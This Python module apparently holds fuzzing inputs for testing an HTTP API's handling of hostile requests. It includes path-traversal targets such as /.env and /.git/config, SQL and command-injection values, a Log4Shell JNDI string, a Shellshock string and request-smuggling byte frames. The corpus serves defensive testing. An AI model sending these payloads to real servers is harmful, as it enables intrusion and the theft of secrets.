"""What stands where something else should: the parts of hostile requests."""

ODD_TYPES = (
    "application/json; charset=utf-16",
    "application/json;charset=utf-7",
    "application/jsonp",
    "text/plain",
    "multipart/form-data; boundary=x",
    "application/json, text/html",
    "APPLICATION/JSON ; q=\xff",
    "",
)

GARBAGE = (
    *("%00", "%0d%0aX-Injected:%20yes", "%2e%2e", "..", "%2f", "%5c..%5c", "%ff%fe", "%ed%a0%80"),
    *("%", "%zz", "%25%30%30", "%c0%ae%c0%ae", "a%20b", "%e2%80%ae", "%f0%9d%92%b3" * 40),
    *("0" * 25, "0" * 27, "0" * 10_000, "Z" * 26, "%D9%A0" * 26, "'%20OR%201=1--", "{id}", "*"),
    *("-1", "1e9", "NaN", "null", "undefined", "true", "[]", "a;b=c", "a,b", "~", ".", "__proto__"),
    *("0" * 25 + "%0a", "%3Cscript%3E", "$(id)", "|id", "%24ne", "\x7f", "[0]", "key%23x"),
)

ROUTES = (
    ("GET", "/v1/jobs/{}"),
    ("GET", "/v1/jobs/{}?wait=1"),
    ("POST", "/v1/jobs/{}/cancel"),
    ("DELETE", "/v1/jobs/{}"),
    ("GET", "/v1/jobs/{}/deliveries"),
    ("POST", "/v1/jobs/{}/deliveries/{}/redeliver"),
    ("GET", "/v1/artworks/{}"),
    ("GET", "/v1/artworks/{}-0/manifest"),
    ("GET", "/v1/models/{}"),
    ("GET", "/studio/{}"),
    ("GET", "/blobs/{}/{}"),
    ("PUT", "/blobs/inbox/uploads/{}"),
)

PATHS = (
    *("//", "//v1//jobs", "/v1/jobs/", "/v1/../v1/jobs", "/v1/%2e%2e/health", "/V1/JOBS", "/v1;x/"),
    *(
        "/.git/config",
        "/.env",
        "/secret",
        "/atelier.db",
        "/blobs/../secret",
        "/studio/../handler.py",
    ),
    *("/studio/%2e%2e%2fhandler.py", "/studio/..%5chandler.py", "/blobs/inbox/..%2f..%2fsecret"),
    *(
        "/blobs/artworks/.scratch/x",
        "/blobs//",
        "/blobs",
        "/health/",
        "/health%00",
        "/v1/openapi.json/",
    ),
    *("/" + "a" * 12_000, "/" + "%61" * 4000, "/" + "a/" * 5000, "/?" + "&" * 9000, "/\\..\\x"),
    *("/v1/jobs%3fwait=1", "/v1/jobs#x", "/v1/jobs?#", "/%", "/%%%", "/\u00e9", "/\x01", "/a b"),
)

METHODS = (
    *("HEAD", "OPTIONS", "TRACE", "PATCH", "PUT", "CONNECT", "PROPFIND", "get", "G", "DEBUG"),
    *("POST", "DELETE", "PURGE", "LINK", "QUERY", "M-SEARCH", "SOURCE", "X" * 300, "GE\tT", ""),
)

QUERY = {
    "wait": (
        "-1",
        "21",
        "1e1",
        "0x1",
        "１",
        "1,1",
        "",
        "1.0",
        "99999999999999999999",
        "%00",
        "NaN",
    ),
    "status": ("", "QUEUED", "deleted", "queued,running", "%00", "queued%20", "null"),
    "cursor": GARBAGE,
    "batch": (*GARBAGE, "%F0%9D%92%B3" * 1000, "a/b", "../x", ""),
    "limit": ("-1", "1000000"),
}

HEADERS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("Idempotency-Key", ("", "a b", "\xff", "k" * 129, "k" * 9000, "a#b", "k,k", "'--", "\t")),
    (
        "If-None-Match",
        ("*", '"' + "a" * 9000 + '"', ",".join(['W/"x"'] * 2000), '"', ",,,", "\xff"),
    ),
    (
        "Authorization",
        ("Bearer", "Bearer " + "a" * 9000, "Basic eA==", "Bearer a b", "\xff" * 50, ""),
    ),
    ("Content-Type", (*ODD_TYPES, "a" * 9000)),
    ("Accept", ("", "nothing/*", "*/*;q=\xff", "text/html," * 500)),
    ("Accept-Encoding", ("gzip, br, zstd", "identity;q=0, *;q=0")),
    ("X-Forwarded-For", ("127.0.0.1", "' OR 1=1", "a" * 5000)),
    ("X-Forwarded-Host", ("evil.example",)),
    ("X-HTTP-Method-Override", ("DELETE",)),
    ("X-Original-URL", ("/v1/jobs",)),
    ("Cookie", ("a=b; " * 900, ";;;", "\xff=\xff", "=")),
    ("Upgrade", ("websocket", "h2c", "TLS/1.0")),
    ("Connection", ("close", "upgrade", "keep-alive, host", "Content-Length", "x" * 900)),
    ("User-Agent", ("\xff" * 200, "${jndi:ldap://x/a}", "() { :; }; echo x", "a" * 9000)),
    ("Expect", ("100-continue", "200-ok", "\xff")),
    ("Forwarded", ("for=127.0.0.1;host=x",)),
    ("Trailer", ("Content-Length",)),
    ("X" * 9000, ("1",)),
)

STRANGERS = (
    *("evil.example", "127.0.0.1", "127.0.0.1:1", "localhost:99999", "", " ", "127.0.0.1:80@evil"),
    *("[::1", "::1", "0x7f.1", "localhost.", "LOCALHOST", "a" * 5000, "127.0.0.1\x00", "\xff", "*"),
)

FRAMES: tuple[tuple[bytes, bytes], ...] = (
    (b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\nGET /x HTTP/1.1\r\n\r\n"),
    (
        b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n",
        b"5c\r\nGPOST / HTTP/1.1\r\n\r\n0\r\n\r\n",
    ),
    (b"Transfer-Encoding: xchunked\r\n", b"0\r\n\r\n"),
    (b"Transfer-Encoding : chunked\r\n", b"0\r\n\r\n"),
    (b"Transfer-Encoding: chunked, identity\r\n", b"0\r\n\r\n"),
    (b"Transfer-Encoding:\x0bchunked\r\n", b"0\r\n\r\n"),
    (b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n", b"0\r\n\r\n"),
    (b"Transfer-Encoding: gzip, chunked\r\n", b"2\r\n{}\r\n0\r\n\r\n"),
    (b"Transfer-Encoding: chunked\r\n", b"2;" + b"e" * 9000 + b"\r\n{}\r\n0\r\n\r\n"),
    (b"Transfer-Encoding: chunked\r\n", b"ffffffffffffffff\r\n{}\r\n"),
    (b"Transfer-Encoding: chunked\r\n", b"-1\r\n{}\r\n0\r\n\r\n"),
    (b"Transfer-Encoding: chunked\r\n", b"0x2\r\n{}\r\n0\r\n\r\n"),
    (b"Transfer-Encoding: chunked\r\n", b"2\r\n{}X\r\n0\r\n\r\n"),
    (b"Transfer-Encoding: chunked\r\n", b"2\n{}\n0\n\n"),
    (b"Transfer-Encoding: chunked\r\n", b"zz\r\n"),
    (b"Transfer-Encoding: chunked\r\n", b"2\r\n{}\r\n0\r\nContent-Length: 5\r\nX: y\r\n\r\n"),
    (b"Transfer-Encoding: chunked\r\n", b"1\r\n{\r\n" * 2000 + b"0\r\n\r\n"),
    (b"Content-Length: 2\r\nContent-Length: 3\r\n", b"{}"),
    (b"Content-Length: 2, 2\r\n", b"{}"),
    (b"Content-Length: -2\r\n", b"{}"),
    (b"Content-Length: +2\r\n", b"{}"),
    (b"Content-Length: 0x2\r\n", b"{}"),
    (b"Content-Length: 2 \r\n", b"{}"),
    (b"Content-Length: 99999999999999999999\r\n", b"{}"),
    (b"Content-Length: 11000000\r\n", b"{}"),
    (b"Content-Length: \xb2\r\n", b"{}"),
    (b"Content-Length: 2\r\n X: folded\r\n", b"{}"),
    (b"Content-Length : 2\r\n", b"{}"),
    (b"X: a\rX: b\r\n", b""),
    (b"X: a\nY: b\r\n", b""),
    (b"X: a\x00b\r\n", b""),
    (b"X\x00: a\r\n", b""),
    (b"no colon\r\n", b""),
    (b": no name\r\n", b""),
    (b"\xff\xfe: x\r\n", b""),
)

LINES = (
    *(b"GET http://%b/health HTTP/1.1\r\n", b"GET http://evil/health HTTP/1.1\r\n"),
    *(
        b"CONNECT %b HTTP/1.1\r\n",
        b"OPTIONS * HTTP/1.1\r\n",
        b"GET * HTTP/1.1\r\n",
        b"GET %b HTTP/1.1\r\n",
    ),
    *(b"GET /health HTTP/1.0\r\n", b"GET /health HTTP/2.0\r\n", b"GET /health HTTP/9.9\r\n"),
    *(
        b"GET /health HTTP/0.9\r\n",
        b"GET /health\r\n",
        b"GET /health HTTP/1.1 \r\n",
        b"\r\n\r\nGET / HTTP/1.1\r\n",
    ),
    *(
        b"GET  /health  HTTP/1.1\r\n",
        b" GET /health HTTP/1.1\r\n",
        b"GET /health HTTP/1.1\n",
        b"GET /health HTTP/1\r\n",
    ),
    *(b"GET http:///health HTTP/1.1\r\n", b"GET http://[::1/ HTTP/1.1\r\n", b"GET ?x HTTP/1.1\r\n"),
    *(
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"SSH-2.0-x\r\n",
    ),
    *(
        b"\x00" * 100,
        b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\n",
        b"{}",
        b"HELO x\r\n",
        b"\xff" * 500,
    ),
    *(
        b"RTSP/1.0 200 OK\r\n",
        b"HTTP/1.1 200 OK\r\n",
        b"GET /\x00 HTTP/1.1\r\n",
        b"GET /\xc3\xa9 HTTP/1.1\r\n",
    ),
)

RANGES = (
    *(
        "bytes=0-",
        "bytes=-1",
        "bytes=-0",
        "bytes=5-2",
        "bytes=0-0,2-3",
        "bytes=",
        "bytes=-",
        "x=0-1",
    ),
    *("bytes=" + "9" * 5000 + "-", "bytes=-" + "9" * 5000, "bytes=0-" + "9" * 5000, "bytes=1e3-"),
    *("bytes=" + ",".join("0-" for _ in range(2000)), "bytes=\xb2-", "bytes = 0 - 1", "BYTES=0-1"),
    *("bytes=99999999-", "bytes=18446744073709551615-", "bytes=-18446744073709551616", ""),
)
